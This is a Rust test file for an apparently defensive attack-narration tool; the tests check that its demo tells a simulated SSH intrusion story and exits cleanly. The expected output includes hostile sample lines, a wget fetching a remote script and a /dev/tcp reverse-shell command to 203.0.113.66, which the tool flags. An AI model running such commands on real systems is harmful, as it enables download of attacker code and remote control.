//! `demo` ends by itself, with the alerts that the story must give, and steers no terminal.

use std::process::Stdio;
use std::time::{Duration, Instant};

use super::{code, run, stderr, trailhound};

#[test]
fn the_story_is_told_to_its_end() {
    let begun = Instant::now();
    let output = run(&["demo"]);
    let told = String::from_utf8(output.stdout.clone()).unwrap();
    assert_eq!(code(&output), 0, "{told}{}", stderr(&output));
    assert!(
        begun.elapsed() < Duration::from_secs(30),
        "{:?}",
        begun.elapsed()
    );
    for wanted in [
        "and then got in as deploy",
        "deploy logged on from 203.0.113.66",
        "wget -q http://203.0.113.66:8000/upd.sh",
        "10.20.0.5:38810 -> 203.0.113.66:8000",
        "indicator 198.51.100.0/28",
        "kept byte for byte",
        "The story of the attack",
        "CRITICAL: On web01, deploy from 203.0.113.66 did 14 things that belong to an attack, in 8 tactics",
        "./.k -c rm -f .k; echo x >/dev/tcp/203.0.113.66/8000; sleep 0.5  <- indicator 203.0.113.66",
        "<- high: Reverse shell",
        "session 52: deploy from 203.0.113.66 by sshd, password",
        "What to try next",
    ] {
        assert!(told.contains(wanted), "'{wanted}' in\n{told}");
    }
    assert_eq!(told.matches("\nhost ").count(), 1, "{told}");
    assert!(!told.contains('\x1b'), "colour where nobody looks");
}

/// As with `demo | head`.
#[test]
fn it_ends_in_order_where_nobody_reads_on() {
    let mut demo = trailhound(&["demo"]);
    let pipes = demo.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut running = pipes.spawn().unwrap();
    drop(running.stdout.take());
    let output = running.wait_with_output().unwrap();
    assert_eq!((code(&output), stderr(&output)), (0, String::new()));
}
